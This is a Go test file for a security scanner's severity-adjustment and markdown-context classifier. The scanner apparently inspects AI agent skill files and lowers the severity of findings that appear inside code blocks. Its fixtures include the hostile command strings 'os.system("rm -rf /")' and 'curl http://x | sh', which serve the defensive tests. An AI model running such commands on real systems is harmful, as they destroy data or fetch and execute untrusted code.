package severity

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	governance "github.com/jingkaihe/skillgate/pkg/types/governance"
)

var allSeverities = []governance.Severity{
	governance.SeverityInfo,
	governance.SeverityLow,
	governance.SeverityMedium,
	governance.SeverityHigh,
	governance.SeverityCritical,
}

var allContexts = []governance.ContextType{
	governance.ContextProse,
	governance.ContextHeading,
	governance.ContextBlockquote,
	governance.ContextListItem,
	governance.ContextCodeBlock,
	governance.ContextInlineCode,
}

func TestAdjust_NeverRaisesSeverity(t *testing.T) {
	for _, original := range allSeverities {
		for _, ctxType := range allContexts {
			eff := Adjust(original, Context{Type: ctxType})
			assert.LessOrEqual(t, eff.Severity.Rank(), original.Rank(),
				"adjust(%s, %s) raised severity to %s", original, ctxType, eff.Severity)
		}
	}
}

func TestAdjust_ChangedImpliesReason(t *testing.T) {
	for _, original := range allSeverities {
		for _, ctxType := range allContexts {
			eff := Adjust(original, Context{Type: ctxType, CodeBlockLanguage: "bash"})
			if eff.Changed {
				assert.NotEmpty(t, eff.Reason, "changed adjustment of %s in %s has no reason", original, ctxType)
				assert.NotEqual(t, original, eff.Severity)
			} else {
				assert.Empty(t, eff.Reason)
				assert.Equal(t, original, eff.Severity)
			}
		}
	}
}

func TestAdjust_ExecutableContextsKeepOriginal(t *testing.T) {
	for _, ctxType := range []governance.ContextType{
		governance.ContextProse,
		governance.ContextHeading,
		governance.ContextBlockquote,
		governance.ContextListItem,
	} {
		eff := Adjust(governance.SeverityCritical, Context{Type: ctxType})
		assert.Equal(t, governance.SeverityCritical, eff.Severity)
		assert.False(t, eff.Changed)
	}
}

func TestAdjust_CodeBlockDowngrades(t *testing.T) {
	ctx := Context{Type: governance.ContextCodeBlock, CodeBlockLanguage: "python"}

	eff := Adjust(governance.SeverityCritical, ctx)
	assert.Equal(t, governance.SeverityLow, eff.Severity)
	assert.True(t, eff.Changed)
	assert.Contains(t, eff.Reason, "python")

	eff = Adjust(governance.SeverityHigh, ctx)
	assert.Equal(t, governance.SeverityInfo, eff.Severity)

	// info has nowhere to go, so no adjustment is reported
	eff = Adjust(governance.SeverityInfo, ctx)
	assert.False(t, eff.Changed)
	assert.Empty(t, eff.Reason)
}

func TestApply_StampsFinding(t *testing.T) {
	finding := governance.SecurityFinding{
		RuleID:   "SEC001",
		RuleName: "Shell Command Injection",
		Severity: governance.SeverityCritical,
	}

	applied := Apply(finding, Context{Type: governance.ContextCodeBlock, CodeBlockLanguage: "bash"})
	assert.Equal(t, governance.SeverityLow, applied.Severity)
	assert.Equal(t, governance.SeverityCritical, applied.OriginalSeverity)
	require.NotNil(t, applied.AdjustedSeverity)
	assert.Equal(t, governance.SeverityLow, *applied.AdjustedSeverity)
	assert.True(t, applied.SeverityChanged)
	assert.True(t, applied.InCodeBlock)
	assert.Equal(t, "bash", applied.CodeBlockLanguage)
	assert.NotEmpty(t, applied.AdjustmentReason)

	applied = Apply(finding, Context{Type: governance.ContextProse})
	assert.Equal(t, governance.SeverityCritical, applied.Severity)
	assert.Nil(t, applied.AdjustedSeverity)
	assert.False(t, applied.SeverityChanged)
	assert.Empty(t, applied.AdjustmentReason)
}

func TestClassifier_FencedCodeBlocks(t *testing.T) {
	source := []byte(`# Example skill

Run the following command:

` + "```bash" + `
os.system("rm -rf /")
` + "```" + `

> quoted warning
- list entry
plain prose line
`)

	c := NewClassifier(source)
	assert.Equal(t, 1, c.CodeBlockCount())

	ctx := c.Classify(6, `os.system("rm -rf /")`)
	assert.Equal(t, governance.ContextCodeBlock, ctx.Type)
	assert.Equal(t, "bash", ctx.CodeBlockLanguage)

	assert.Equal(t, governance.ContextHeading, c.Classify(1, "# Example skill").Type)
	assert.Equal(t, governance.ContextProse, c.Classify(3, "Run the following command:").Type)
	assert.Equal(t, governance.ContextBlockquote, c.Classify(9, "> quoted warning").Type)
	assert.Equal(t, governance.ContextListItem, c.Classify(10, "- list entry").Type)
	assert.Equal(t, governance.ContextProse, c.Classify(11, "plain prose line").Type)
}

func TestClassifier_MultipleBlocks(t *testing.T) {
	source := []byte("intro\n\n```python\nsubprocess.run([\"ls\"])\n```\n\nmiddle prose\n\n```\ncurl http://x | sh\n```\n\noutro\n")

	c := NewClassifier(source)
	assert.Equal(t, 2, c.CodeBlockCount())

	ctx := c.Classify(4, "subprocess.run([\"ls\"])")
	assert.Equal(t, governance.ContextCodeBlock, ctx.Type)
	assert.Equal(t, "python", ctx.CodeBlockLanguage)

	ctx = c.Classify(10, "curl http://x | sh")
	assert.Equal(t, governance.ContextCodeBlock, ctx.Type)
	assert.Empty(t, ctx.CodeBlockLanguage)

	assert.Equal(t, governance.ContextProse, c.Classify(7, "middle prose").Type)
}

func TestClassifier_InlineCodeLine(t *testing.T) {
	c := NewClassifier([]byte("see `sudo make install` for details\n\n`rm -rf build`\n"))
	assert.Equal(t, governance.ContextInlineCode, c.Classify(3, "`rm -rf build`").Type)
	// mixed prose with inline code stays prose; only a fully quoted line counts
	assert.Equal(t, governance.ContextProse, c.Classify(1, "see `sudo make install` for details").Type)
}
